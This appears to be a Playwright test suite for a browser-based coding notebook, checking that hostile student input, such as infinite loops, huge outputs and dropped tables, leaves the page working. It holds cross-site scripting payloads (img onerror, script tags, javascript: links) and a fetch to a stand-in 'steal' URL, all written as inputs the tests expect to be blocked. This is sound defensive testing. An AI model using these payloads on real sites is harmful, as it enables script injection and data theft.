import type { BrowserContext, Page } from '@playwright/test';
import { test, expect, cell, typeInto, waitForKernel } from './fixtures';
import {
  KEEPER_EDIT, LESSON, editorText, mainThreadLatency, runCell, typeAndRun, watchOutsideRequests, watchViolations,
} from './robustness-helpers';

/*
 * The "bad input" suite of issue 7, on one page in real Chromium: each case feeds the notebook
 * something hostile, then checks that the student's edit of another cell, a DuckDB table made
 * before, and the next run all survived. The page is shared (serial) so that the cases also
 * prove the notebook keeps working after each other.
 */
test.describe.configure({ mode: 'serial' });

let context: BrowserContext;
let page: Page;
let outside: string[];
let dialogs: string[];
let round = 0;

test.beforeAll(async ({ browser }) => {
  context = await browser.newContext();
  outside = watchOutsideRequests(context);
  await watchViolations(context);
  page = await context.newPage();
  dialogs = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.accept();
  });
  await page.goto(LESSON);
  await waitForKernel(page);
  await typeInto(page, 'keeper', KEEPER_EDIT);
  await runCell(page, 'make-table');
  await expect(cell(page, 'make-table')).toHaveAttribute('data-status', 'done');
});

test.afterAll(async () => {
  await context.close();
});

/** After every case: the edit, the table and the runtime are intact; nothing reached outside. */
test.afterEach(async () => {
  round++;
  expect(await editorText(page, 'keeper')).toContain('학생수정');
  await typeAndRun(page, 'check', `const madeRows = await sql.value\`SELECT COUNT(*) FROM made\`;\n\`made=\${madeRows} round=${round}\``);
  await expect(cell(page, 'check').locator('[data-output-kind="text"]')).toHaveText(`made=7 round=${round}`);
  expect(await mainThreadLatency(page)).toBeLessThan(1_000);
  expect(outside, 'requests outside localhost').toEqual([]);
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(dialogs.filter((m) => !/되돌릴까요|재시작/.test(m))).toEqual([]);
});

const scratch = () => cell(page, 'scratch');
const scratchSql = () => cell(page, 'scratch-sql');
const errorOf = (c: ReturnType<typeof cell>) => c.locator('[data-output-kind="error"]');

test('a syntax error is located and nothing runs', async () => {
  await typeAndRun(page, 'scratch', "globalThis.ranAnyway = 1;\nconst broken = (;");
  await expect(scratch()).toHaveAttribute('data-status', 'error');
  await expect(errorOf(scratch())).toHaveAttribute('data-error-line', '2');
  expect(await page.evaluate(() => 'ranAnyway' in globalThis)).toBe(false);
});

test('a runtime throw names the line', async () => {
  await typeAndRun(page, 'scratch', "const ok = 1;\nthrow new Error('일부러 터짐');");
  await expect(errorOf(scratch())).toContainText('일부러 터짐');
  await expect(errorOf(scratch())).toHaveAttribute('data-error-line', '2');
});

test('throwing a value that is not an Error still reports it', async () => {
  await typeAndRun(page, 'scratch', "throw { code: 42, why: '객체를 던짐' };");
  await expect(errorOf(scratch())).toContainText('객체를 던짐');
  await typeAndRun(page, 'scratch', 'throw 7;');
  await expect(errorOf(scratch())).toContainText('7');
});

test('an unhandled promise rejection fails the cell', async () => {
  await typeAndRun(page, 'scratch', "Promise.reject(new Error('아무도 기다리지 않는 거부'));\n'after'");
  await expect(scratch()).toHaveAttribute('data-status', 'error');
  await expect(errorOf(scratch())).toContainText('아무도 기다리지 않는 거부');
});

test('while (true) {} hits the cell time limit (timeout=2) with a clear message', async () => {
  const slow = cell(page, 'slow');
  const t0 = Date.now();
  await runCell(page, 'slow');
  expect(Date.now() - t0).toBeLessThan(10_000);
  await expect(errorOf(slow)).toContainText('시간 초과');
  await expect(errorOf(slow)).toContainText('실행 시간 한도(2초)');
  await expect(errorOf(slow)).toContainText('timeout=');
});

test('an async infinite loop (for (;;) await 0) hits the time limit too', async () => {
  await typeAndRun(page, 'slow', 'let turns = 0;\nfor (;;) { await 0; turns++; }');
  await expect(errorOf(cell(page, 'slow'))).toContainText('실행 시간 한도(2초)');
});

test('unbounded recursion is a RangeError with a hint, not a crash', async () => {
  await typeAndRun(page, 'scratch', 'function down(n: number): number { return down(n + 1) + 1; }\ndown(0)');
  await expect(errorOf(scratch())).toContainText('Maximum call stack size exceeded');
  await expect(errorOf(scratch())).toContainText('무한 재귀');
});

test('a runner that dies silently (close()) is detected, reported and replaced', async () => {
  await typeAndRun(page, 'scratch', "const before = 1;\n(self as any).close();\nawait new Promise(() => {});");
  await expect(scratch()).toHaveAttribute('data-status', 'error');
  await expect(errorOf(scratch())).toContainText('런타임 비정상 종료');
  await expect(errorOf(scratch())).toContainText('DuckDB 테이블은 그대로');
});

test('a million console.log lines: capped at 1,000 rendered, the rest counted', async () => {
  await typeAndRun(page, 'scratch', "for (let i = 0; i < 1_000_000; i++) console.log('줄', i);");
  const out = scratch().locator('[data-output-kind="console"]');
  await expect(out.locator('.console-line').last()).toContainText('999,000줄을 더 생략했습니다');
  expect(await out.locator('.console-line').count()).toBe(1_001);
});

test('a 10 MB string is cut for display and says how much was left out', async () => {
  await typeAndRun(page, 'scratch', "console.log('y'.repeat(10_000_000));\n'x'.repeat(10_000_000)");
  const text = scratch().locator('[data-output-kind="text"]');
  await expect(text).toContainText('나머지 9,900,000자는 표시하지 않았습니다');
  expect((await text.textContent())!.length).toBeLessThan(150_000);
  await expect(scratch().locator('[data-output-kind="console"]')).toContainText('자는 표시하지 않았습니다');
});

test('a million-row result shows 10,000 rows, the true count, and stays responsive', async () => {
  await typeInto(page, 'scratch-sql', 'SELECT i, i * 2 AS doubled, \'행\' || i AS label FROM range(1000000) t(i)');
  const started = Date.now();
  await runCell(page, 'scratch-sql');
  const elapsed = Date.now() - started;
  const table = scratchSql().locator('[data-output-kind="table"]');
  await expect(table).toHaveAttribute('data-row-count', '1000000');
  await expect(table.locator('.table-foot')).toContainText('1,000,000행 중 10,000행 표시');
  expect(await table.locator('.table-row').count()).toBeLessThan(100);
  test.info().annotations.push({ type: 'million-row SQL cell, click to table (ms)', description: String(elapsed) });
});

test('name= refuses to bind a million rows and says why', async () => {
  await runCell(page, 'big-named');
  const big = cell(page, 'big-named');
  await expect(big).toHaveAttribute('data-status', 'error');
  await expect(errorOf(big)).toContainText('1,000,000행이라 변수 bigRows에 담지 않았습니다');
  await expect(big.locator('[data-output-kind="table"]')).toHaveAttribute('data-row-count', '1000000');
});

test('a SQL syntax error names DuckDB’s error and the line', async () => {
  await typeAndRun(page, 'scratch-sql', 'SELECT 1;\nSELEC 2');
  await expect(errorOf(scratchSql())).toContainText('Parser Error');
  await expect(errorOf(scratchSql())).toHaveAttribute('data-error-line', '2');
});

test('a query on a missing table says which table and what to do', async () => {
  await typeAndRun(page, 'scratch-sql', 'SELECT * FROM no_such_table');
  await expect(errorOf(scratchSql())).toContainText('Catalog Error');
  await expect(errorOf(scratchSql())).toContainText('‘no_such_table’ 테이블이 없습니다');
});

test('dropping a lesson table: the re-run explains it, Restart brings the data back', async () => {
  await typeAndRun(page, 'scratch-sql', 'DROP TABLE orders');
  await runCell(page, 'count-orders');
  await expect(errorOf(cell(page, 'count-orders'))).toContainText('‘orders’는 이 수업의 데이터 테이블입니다');
  await page.locator('[data-action="restart"]').click(); // the confirm dialog is accepted
  await waitForKernel(page);
  await runCell(page, 'count-orders');
  await expect(cell(page, 'count-orders').locator('[data-output-kind="table"]')).toContainText('4');
  await runCell(page, 'make-table'); // Restart reset every table: make the one the checks use again
});

test('<img onerror> and <script> in a cell’s HTML output stay inert', async () => {
  await typeAndRun(
    page,
    'scratch',
    "html('<b>굵게</b><img src=x onerror=\"parent.__pwned = 1\"><script>parent.__pwned = 2</script>' +\n" +
      "  '<a href=\"javascript:parent.__pwned=3\">링크</a><meta http-equiv=\"refresh\" content=\"0;url=https://example.com/\">');\n" +
      "'<img src=x onerror=\"window.__pwned=4\">'",
  );
  const frame = scratch().locator('[data-output-kind="html"] iframe');
  await expect(frame).toHaveAttribute('sandbox', 'allow-same-origin');
  await expect(frame.contentFrame().locator('b')).toHaveText('굵게');
  await frame.contentFrame().locator('a').click();
  // The last expression is a string: shown as text, never parsed as HTML.
  await expect(scratch().locator('[data-output-kind="text"]')).toContainText('<img src=x onerror=');
  await page.waitForTimeout(1_000); // give a handler or a refresh every chance to fire
});

test('<script>, onerror and javascript: in the lesson file are shown as text, never run', async () => {
  await expect(page.locator('.lesson-summary')).toContainText('<img src=x onerror="window.__pwned=1">');
  await expect(page.locator('.prose code', { hasText: '<script>window.__pwned = 2</script>' })).toBeVisible();
  await expect(page.locator('.prose a', { hasText: '이 링크' })).not.toHaveAttribute('href', /javascript:/);
  await expect(page.locator('figure.listing')).toContainText('<script>window.__pwned = 6</script>');
  expect(await page.locator('article script, article img[onerror], article [onerror]').count()).toBe(0);
  await page.locator('.prose a', { hasText: '이 링크' }).click();
});

test('a 5,000-character line runs, and its output wraps inside the cell', async () => {
  await typeAndRun(page, 'scratch', `const long = '${'가'.repeat(5_000)}';\nconsole.log(long);\nlong.length`);
  await expect(scratch().locator('[data-output-kind="text"]')).toHaveText('5000');
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  expect(overflow).toBeLessThanOrEqual(0);
});

test('student code cannot reach the network, and the page saw no CSP violation', async () => {
  await typeAndRun(page, 'scratch', "await fetch('https://example.com/steal?d=1').then(() => '닿음', (e) => '막힘: ' + e.message)");
  await expect(scratch().locator('[data-output-kind="text"]')).toContainText('막힘');
  expect(await page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)).toEqual([]);
  // The page itself has no eval (only the runner worker does). Code evaluated by the test tool is
  // exempt from CSP, so ask the page to evaluate a string the way a page script would.
  await page.evaluate(() => setTimeout('window.__evalRan = 1' as unknown as () => void, 0));
  await expect.poll(() => page.evaluate(() => (window as unknown as { __csp: string[] }).__csp)).toEqual(['script-src eval']);
  expect(await page.evaluate(() => '__evalRan' in window)).toBe(false);
  await page.evaluate(() => ((window as unknown as { __csp: string[] }).__csp = []));
});
